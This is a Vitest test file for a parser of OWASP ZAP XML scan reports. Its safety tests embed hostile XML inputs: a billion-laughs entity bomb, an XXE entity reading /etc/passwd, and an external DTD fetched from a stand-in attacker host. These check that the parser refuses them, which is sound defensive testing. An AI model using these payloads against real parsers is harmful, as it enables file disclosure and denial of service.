import { describe, expect, it } from "vitest";
import { ParseError } from "../../../contract";
import { parseAll, sample, textSource } from "../../../test-utils";
import { parser } from "./parser";

const xmlReport = (alertBody: string, doctype = "") => `<?xml version="1.0"?>${doctype}
<OWASPZAPReport programName="ZAP" version="2.15.0" generated="now">
  <site name="https://api.acme.test" host="api.acme.test" port="443" ssl="true">
    <alerts>
      <alertitem>
        <pluginid>10202</pluginid>
        <alertRef>10202</alertRef>
        <alert>${alertBody}</alert>
        <riskcode>2</riskcode>
        <confidence>2</confidence>
        <riskdesc>Medium (Medium)</riskdesc>
        <desc>&lt;p&gt;desc &amp;amp; more&lt;/p&gt;</desc>
        <instances>
          <instance><uri>https://api.acme.test/a?x=1&amp;y=2</uri><method>GET</method><param></param><attack /><evidence>ev</evidence></instance>
        </instances>
        <count>1</count>
        <solution>fix</solution>
        <reference>https://example.com/ref</reference>
        <cweid>352</cweid>
      </alertitem>
    </alerts>
  </site>
</OWASPZAPReport>`;

describe("zap-xml parser: DefectDojo ZAP 2.16.1 sample with request/response", () => {
  it("reads every field", async () => {
    const { records, warnings } = await parseAll(parser, await sample("scan-results/zap-2.16.1-with-req-resp.xml"));
    expect(records).toHaveLength(13);
    expect(warnings).toEqual([]);
    expect(records.every((r) => r.tool.name === "ZAP" && r.tool.version === "2.16.1")).toBe(true);
    expect(records.every((r) => r.target === "https://example-domain.com" && r.severity === "info" && r.occurrences === 1)).toBe(true);
    expect(records.map((r) => r.ruleId)).toEqual([
      "10111",
      ...Array(5).fill("10029"),
      ...Array(3).fill("10024"),
      ...Array(4).fill("10015"),
    ]);
    const auth = records[0]!;
    expect(auth).toMatchObject({
      title: "Authentication Request Identified",
      confidence: "low",
      url: "https://example-domain.com/cpapi/api/account/verifypasswordless",
      method: "POST",
      parameter: "user_identifier",
      remediation: "This is an informational alert rather than a vulnerability and so there is nothing to fix.",
      references: ["https://www.zaproxy.org/docs/desktop/addons/authentication-helper/auth-req-id/"],
    });
    expect(auth.cwe).toBeUndefined(); // cweid -1
    expect(auth.evidence?.request).toMatch(/^POST https:\/\/example-domain\.com\/cpapi\/api\/account\/verifypasswordless HTTP\/1\.1\nhost: example-domain\.com/);
    expect(auth.evidence?.request).toContain("authorization: [REDACTED]");
    expect(auth.evidence?.request).toContain('"passwordless_code":"[REDACTED]"');
    expect(auth.evidence?.response).toMatch(/^HTTP\/1\.1 400 Bad Request/);
    expect(auth.evidence?.response).toContain("Set-Cookie: [REDACTED]");
    expect(auth.evidence?.response).not.toContain("x-ms-routing-name");

    const poisoning = records[1]!;
    expect(poisoning).toMatchObject({
      title: "Cookie Poisoning",
      cwe: 565,
      url: "https://example-domain.com/cpapi/api/redirect/getPrefillOtuTokenData",
      method: "GET",
      parameter: "clearCache",
    });
    const urlLeaks = records.filter((r) => r.ruleId === "10024");
    expect(urlLeaks.map((r) => [r.parameter, r.confidence, r.cwe])).toEqual([
      ["accessToken", "medium", 598],
      ["otuToken", "medium", 598],
      ["addToSession", "medium", 598],
    ]);
    const cache = records.filter((r) => r.ruleId === "10015");
    expect(cache.map((r) => r.method)).toEqual(["DELETE", "GET", "GET", "PUT"]);
    expect(cache.every((r) => r.cwe === 525 && r.parameter === "cache-control")).toBe(true);
  });
});

describe("zap-xml parser: safety and errors", () => {
  it("reads a minimal report, decoding predefined entities", async () => {
    const { records } = await parseAll(parser, textSource(xmlReport("Absence of Anti-CSRF Tokens")));
    expect(records).toHaveLength(1);
    expect(records[0]).toMatchObject({
      tool: { name: "ZAP", version: "2.15.0" },
      ruleId: "10202",
      title: "Absence of Anti-CSRF Tokens",
      severity: "medium",
      cwe: 352,
      url: "https://api.acme.test/a",
      method: "GET",
      description: "desc & more",
      evidence: { detail: "Evidence: ev" },
    });
    expect(records[0]?.parameter).toBeUndefined();
  });

  it("never expands internal entities (billion laughs stays literal, fast)", async () => {
    const lol = `<!DOCTYPE OWASPZAPReport [
      <!ENTITY lol "lol">
      <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
      <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
      <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
      <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
      <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
      <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
      <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
      <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
      <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
    ]>`;
    const { records } = await parseAll(parser, textSource(xmlReport("&lol9;", lol)));
    expect(records).toHaveLength(1);
    expect(records[0]?.title).toBe("&lol9;");
  });

  it("rejects external entities without reading the file", async () => {
    const xxe = `<!DOCTYPE OWASPZAPReport [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>`;
    await expect(parseAll(parser, textSource(xmlReport("&xxe;", xxe)))).rejects.toThrow(/external XML entity/);
    const param = `<!DOCTYPE OWASPZAPReport [<!ENTITY % remote SYSTEM "http://attacker.test/x.dtd"> %remote;]>`;
    await expect(parseAll(parser, textSource(xmlReport("x", param)))).rejects.toThrow(ParseError);
  });

  it("bounds huge values", async () => {
    const huge = "A".repeat(200_000);
    const doc = xmlReport(huge).replace("<evidence>ev</evidence>", `<evidence>${huge}</evidence>`);
    const { records } = await parseAll(parser, textSource(doc));
    expect(records[0]!.title.length).toBeLessThanOrEqual(300);
    expect(records[0]!.evidence!.detail!.length).toBeLessThan(4100);
    expect(records[0]!.evidence!.detail).toMatch(/truncated \d+ chars\]$/);
  });

  it("a report whose sites have no alerts (ZAP 2.9) is a clean scan of each site, not an empty file", async () => {
    const empty = `<?xml version="1.0"?>
<OWASPZAPReport version="2.9.0" generated="Mon, 1 Mar 2021 10:00:00">
<site name="https://shop.acme.test" host="shop.acme.test" port="443" ssl="true"><alerts></alerts></site>
<site name="http://legacy.acme.test" host="legacy.acme.test" port="80" ssl="false"><alerts/></site>
</OWASPZAPReport>`;
    const { records, scopes, warnings } = await parseAll(parser, textSource(empty, "zap.xml"));
    expect(records).toEqual([]);
    expect(warnings).toEqual([]);
    expect(scopes).toEqual([
      { kind: "scanned-scope", tool: { name: "ZAP", version: "2.9.0" }, target: "https://shop.acme.test" },
      { kind: "scanned-scope", tool: { name: "ZAP", version: "2.9.0" }, target: "http://legacy.acme.test" },
    ]);
    // A report with findings names its site as scanned too.
    expect((await parseAll(parser, textSource(xmlReport("x")))).scopes).toEqual([
      { kind: "scanned-scope", tool: { name: "ZAP", version: "2.15.0" }, target: "https://api.acme.test" },
    ]);
  });

  it("rejects truncated XML and other XML", async () => {
    const text = await (await sample("scan-results/zap-2.16.1-with-req-resp.xml")).text();
    await expect(parseAll(parser, textSource(text.slice(0, 20_000)))).rejects.toThrow(/not well-formed XML/);
    await expect(parseAll(parser, textSource(await (await sample("scan-results/burp-1.6-one-finding.xml")).text()))).rejects.toThrow(
      /not a ZAP XML report/,
    );
    await expect(parseAll(parser, textSource('{"site":[]}'))).rejects.toThrow(ParseError);
  });

  it("detects only <OWASPZAPReport>", () => {
    expect(parser.detect(xmlReport("x"), "")).toBe(1);
    expect(parser.detect('<issues burpVersion="1">', "zap.xml")).toBe(0);
  });
});

describe("zap-xml parser: regression (fuzz)", () => {
  it("regression (fuzz): malformed XML whose bad tag is 1 MB long is rejected with a short message", async () => {
    const text = xmlReport(`<alertitem><${"<".repeat(1_000_000)}</alertitem>`);
    const error = await parseAll(parser, textSource(text, "zap.xml")).then(
      () => undefined,
      (e: unknown) => e,
    );
    expect(error).toBeInstanceOf(ParseError);
    expect((error as ParseError).message).toMatch(/^zap\.xml is not well-formed XML \(ZAP XML\): /);
    expect((error as ParseError).message.length).toBeLessThan(400);
  });
});
